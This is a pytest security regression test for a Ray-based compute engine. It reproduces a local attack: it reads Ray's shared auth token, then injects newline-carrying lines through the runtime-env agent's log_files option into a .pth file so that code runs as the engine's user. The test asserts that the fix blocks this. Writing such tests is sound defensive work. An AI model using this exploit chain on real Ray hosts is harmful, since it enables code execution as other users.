"""R15-ENGINE-1: the engine's runtime-env agent serves plain HTTP without the engine certificate; a local reader of
~/.ray/auth_token gets the party's user to write attacker lines into any file (a .pth: code execution).

Attack: a local process that holds no engine certificate (another user on a party host, or any host of a party
cluster's network, since the agent binds the node's address) reads the bearer token Ray 2.60 writes on first
``ray.init`` to ``~/.ray/auth_token`` (mode 0644 in a 0755 folder, the same token for every engine the user ever
starts, never removed) and POSTs a ``GetOrCreateRuntimeEnvRequest`` to the agent's port
(``RuntimeEnvAgentPort``, plain aiohttp: Ray's TLS covers gRPC only). ``runtime_env_config.log_files`` names
any absolute path (``os.path.join(log_dir, "/abs")``) and an unknown runtime_env field name is logged verbatim
in a WARNING line, newline and all; so the agent, running as the party, appends attacker lines to that path. A
``.pth`` in a site folder runs its ``import`` lines at the next Python start (here: ``site.addsitedir``).

Expected safe behaviour (docs/architecture.md "Party compute engines": every server of the engine refuses a
client without the party's engine certificate): the agent port is not reachable without the engine CA's
certificate (or not served at all), and Ray's token is not readable by others.

Fixed: the engine runs Ray with RAY_AUTH_MODE=token and a fresh token of its own (0600 in its 0700 folder, never
~/.ray/auth_token), so the agent answers 401 to a client without it and no marker appears.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import urllib.request
from pathlib import Path

import pytest

ENGINE = r'''
import json, sys
from sampan.compute.ray_engine import RayEngine
eng = RayEngine(num_workers=1)
node = eng._ray.nodes()[0]
print(json.dumps({"port": node["RuntimeEnvAgentPort"]}), flush=True)
sys.stdin.readline()
eng.close()
'''


@pytest.mark.slow
def test_runtime_env_agent_refuses_a_client_without_the_engine_certificate(tmp_path: Path) -> None:
    pytest.importorskip("ray")
    from ray.core.generated import runtime_env_agent_pb2 as pb

    home = tmp_path / "home"  # the party's service account home (0755, as useradd makes it on many systems)
    home.mkdir(mode=0o755)
    env = {k: v for k, v in os.environ.items() if not k.startswith("RAY_")}
    env["HOME"] = str(home)
    party = subprocess.Popen([sys.executable, "-c", ENGINE], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.DEVNULL, text=True, env=env)
    marker = tmp_path / "PWNED"
    site_dir = tmp_path / "site"
    site_dir.mkdir()
    try:
        line = party.stdout.readline() if party.stdout else ""
        if not line:
            pytest.fail("the party's engine did not start")
        port = json.loads(line)["port"]
        token_file = home / ".ray" / "auth_token"
        # what any local user may read (0644 in a 0755 folder): the attacker holds no engine certificate
        token = token_file.read_text().strip() if token_file.exists() else ""
        request = pb.GetOrCreateRuntimeEnvRequest()  # type: ignore[attr-defined]
        payload = f"import os; open({str(marker)!r}, 'w').write('ran as ' + str(os.getuid()))"
        request.serialized_runtime_env = json.dumps({f"x\n{payload}\n": 1})
        request.runtime_env_config.log_files.append(str(site_dir / "evil.pth"))
        request.runtime_env_config.setup_timeout_seconds = 30
        request.job_id = b"01000000"
        request.source_process = "attacker"
        try:
            urllib.request.urlopen(urllib.request.Request(
                f"http://127.0.0.1:{port}/get_or_create_runtime_env", data=request.SerializeToString(),
                headers={"Authorization": f"Bearer {token}"}, method="POST"), timeout=60).read()
        except OSError:
            pass  # refused: the safe outcome
        subprocess.run([sys.executable, "-c", f"import site; site.addsitedir({str(site_dir)!r})"], timeout=60,
                       env=env, check=False, capture_output=True)
        assert not marker.exists(), f"the party's user ran the attacker's code: {marker.read_text()}"
        assert not token_file.exists(), "the engine left its token where every engine of the user shares it"
    finally:
        if party.stdin:
            party.stdin.close()
        try:
            party.wait(timeout=60)
        except subprocess.TimeoutExpired:
            party.kill()
